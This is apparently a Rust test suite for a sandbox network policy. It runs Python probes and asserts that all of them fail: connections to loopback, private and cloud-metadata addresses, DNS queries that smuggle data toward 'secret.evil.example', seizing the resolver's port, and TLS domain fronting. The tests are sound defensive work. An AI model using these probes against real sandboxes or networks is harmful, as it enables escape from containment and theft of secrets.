//! Row 45 of the threats: each attack beside a control that succeeds.

use super::server::Server;
use super::{entry, net, out};

/// What happens to each attempt, by name.
const TRY: &str = "import socket\ndef attempt(name, f):\n try: print(name, f())\n except OSError as e: print(name, type(e).__name__)\ndef get(host, port, name='site.example'):\n s = socket.create_connection((host, port), timeout=20); s.sendall(f'GET / HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n'.encode()); return s.makefile().read().splitlines()[-1:]\n";

#[test]
fn addresses_other_ports_and_other_names_lead_nowhere() {
    let net = net("");
    let port = net.site.port;
    let program = format!(
        "{TRY}attempt('control', lambda: get('site.example', 80))\nattempt('loopback', lambda: get('127.0.0.1', {port}))\nattempt('own', lambda: get('127.0.0.1', 80))\nattempt('unnamed', lambda: get('127.64.0.77', 80))\nattempt('private', lambda: get('10.0.0.1', 80))\nattempt('metadata', lambda: get('169.254.169.254', 80))\nattempt('public', lambda: get('192.0.2.1', 443))\nattempt('port', lambda: get('site.example', 81))\nattempt('host', lambda: get('site.example', {port}))\nattempt('name', lambda: get('site.example.evil.example', 80))\nattempt('six', lambda: socket.create_connection(('::1', {port})))"
    );
    let result = net.python(&program);
    let lines: Vec<&str> = out(&result).lines().collect();
    assert_eq!(lines[0], "control ['hello from site.example']", "{result:#}");
    assert_eq!(lines.len(), 11, "{result:#}");
    for line in &lines[1..] {
        assert!(line.ends_with("Error") || line.ends_with("gaierror"), "{line}: {result:#}");
    }
    assert_eq!(net.site.accepted(), 1);
}

#[test]
fn dns_is_no_way_out_and_nothing_is_asked() {
    let net = net("");
    // Every kind of question about a name that carries something, and rubbish; then the control.
    let program = "import socket, struct, os\ndef ask(payload, tcp=False):\n if tcp:\n  s = socket.create_connection(('127.0.0.1', 53), timeout=20); s.sendall(struct.pack('>H', len(payload)) + payload); return s.recv(600)[2:]\n s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20); s.sendto(payload, ('127.0.0.1', 53)); return s.recv(600)\ndef query(name, kind): return b'\\x12\\x34\\x01\\x00\\x00\\x01\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', kind, 1)\nfor tcp in (False, True):\n print([ask(query('secret.evil.example', kind), tcp)[3] & 15 for kind in (1, 28, 16, 15, 2, 255)])\n print(ask(query('site.example', 1), tcp)[-4:])\nfor size in (1, 11, 12, 40): \n s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(os.urandom(size), ('127.0.0.1', 53))\nprint(socket.gethostbyname('site.example'))";
    let result = net.python(program);
    let missing = "[3, 3, 3, 3, 3, 3]\nb'\\x7f@\\x00\\x01'\n";
    assert_eq!(out(&result), format!("{missing}{missing}127.64.0.1\n"), "{result:#}");
    assert!(entry(&result, "secret.evil.example").is_some(), "{result:#}");
    assert_eq!(net.connections().len(), 0);
}

#[test]
fn a_command_cannot_take_the_resolvers_or_a_listeners_port() {
    let net = net("");
    let program = "import socket\nfor kind, address in ((socket.SOCK_DGRAM, ('127.0.0.1', 53)), (socket.SOCK_DGRAM, ('0.0.0.0', 53)), (socket.SOCK_STREAM, ('127.0.0.1', 53)), (socket.SOCK_STREAM, ('127.64.0.1', 80)), (socket.SOCK_STREAM, ('0.0.0.0', 80)), (socket.SOCK_STREAM, ('127.0.0.1', 8099))):\n s = socket.socket(socket.AF_INET, kind)\n s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n try:\n  s.bind(address)\n  if kind == socket.SOCK_STREAM: s.listen()\n  print('bound')\n except OSError as e: print('refused')\nimport urllib.request as u; print(u.urlopen('http://site.example/').read().decode())";
    let result = net.python(program);
    let expected = "refused\nrefused\nrefused\nrefused\nrefused\nbound\nhello from site.example\n";
    assert_eq!(out(&result).trim_end(), expected.trim_end(), "{result:#}");
}

#[test]
fn on_443_the_first_bytes_say_the_name_that_was_asked_for() {
    // What is let through is echoed: a client that fronts has nothing back.
    let echo = Server::echo();
    let net = net(&format!(
        "  - {{ id: tls, for: commands, allow: \"connect tls.example:443\", at: \"127.0.0.1:{}\" }}\n",
        echo.port
    ));
    let program = "import socket, ssl\ndef hello(name):\n i, o = ssl.MemoryBIO(), ssl.MemoryBIO(); c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n t = c.wrap_bio(i, o, server_hostname=name)\n try: t.do_handshake()\n except ssl.SSLWantReadError: pass\n return o.read()\ndef send(first):\n try:\n  s = socket.create_connection(('tls.example', 443), timeout=30); s.sendall(first); got = b''\n  while len(got) < len(first):\n   piece = s.recv(4096)\n   if not piece: return 'closed'\n   got += piece\n  return got == first\n except OSError as e: return 'refused'\nprint(send(hello('tls.example')), send(hello('front.example')), send(hello(None)), send(b'GET / HTTP/1.1\\r\\nHost: tls.example\\r\\n\\r\\n'))";
    let result = net.python(program);
    assert_eq!(out(&result).trim(), "True refused refused refused", "{result:#}");
    assert_eq!(echo.accepted(), 1, "nothing is dialled for the others");
    let codes: Vec<_> = net.connections().iter().map(|one| one["code"].clone()).collect();
    assert_eq!(
        codes,
        [serde_json::json!("net_tls"), "net_tls".into(), "net_tls".into(), serde_json::Value::Null]
    );
}

#[test]
fn a_name_that_leads_to_this_machine_is_refused() {
    // A name that this machine's own files lead to one of its addresses; where they do not, it leads nowhere.
    let name = rustix::system::uname().nodename().to_string_lossy().to_lowercase();
    let server = Server::http();
    let port = server.port;
    let rule = format!("  - {{ id: own, for: commands, allow: \"connect {name}:{port}\" }}\n");
    let program = format!(
        "import socket\ntry:\n s = socket.create_connection(('{name}', {port}), timeout=30); s.sendall(b'x'); print(s.recv(1))\nexcept OSError as e: print('refused')"
    );
    let net = net(&rule);
    let result = net.python(&program);
    assert_eq!(out(&result).trim(), "refused", "{result:#}");
    assert_eq!(server.accepted(), 0);
    let code = net.connections()[0]["code"].clone();
    assert!(["net_address", "net_dns"].iter().any(|known| code == *known), "{code}");
}
